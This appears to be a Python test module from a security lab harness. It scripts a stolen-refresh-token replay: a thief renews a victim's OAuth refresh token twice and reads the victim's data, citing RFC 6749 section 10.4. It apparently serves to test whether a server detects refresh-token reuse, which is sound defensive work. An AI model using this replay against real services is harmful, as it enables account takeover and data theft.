"""Renew with a refresh token that you stole, before its owner does.

Exploits a refresh token that whoever bears it may use. As long as the owner does not come with the
same one, nothing tells the two apart: the thief renews again and again.
Source: RFC 6749, section 10.4 Refresh Tokens,
https://www.rfc-editor.org/rfc/rfc6749#section-10.4
"""

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, judge, refused
from attacks.lab.target import Target, newest


@attack(door="stolen-refresh")
def run(target: Target) -> Outcome:
    """Log in as the victim; renew as someone else, twice, and read."""
    token = target.refresh_token_of(target.enrol())
    with target.as_thief() as thief:
        for time in ("first", "second"):
            renewal = thief.refresh(token)
            if not renewal.is_success:
                return refused(f"the {time} renewal: {renewal.status_code}")
            token = newest(renewal, token)
        return judge({"the data, after two renewals": thief.read(renewal.json()["access_token"])})
